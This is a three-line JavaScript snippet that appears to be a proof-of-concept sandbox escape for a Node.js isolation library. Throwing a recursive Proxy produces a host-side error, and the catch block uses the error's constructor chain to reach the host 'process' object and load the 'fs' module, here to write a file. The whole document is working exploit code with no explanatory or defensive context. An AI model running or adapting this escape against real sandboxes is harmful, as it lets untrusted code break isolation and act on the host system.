const deep = () => { new Error().stack; deep(); };
const bait = new Proxy({}, { getPrototypeOf() { deep(); } });
try { throw bait; } catch (e) { e.constructor.constructor('return process')().mainModule.require('fs').writeFileSync('x', ''); }
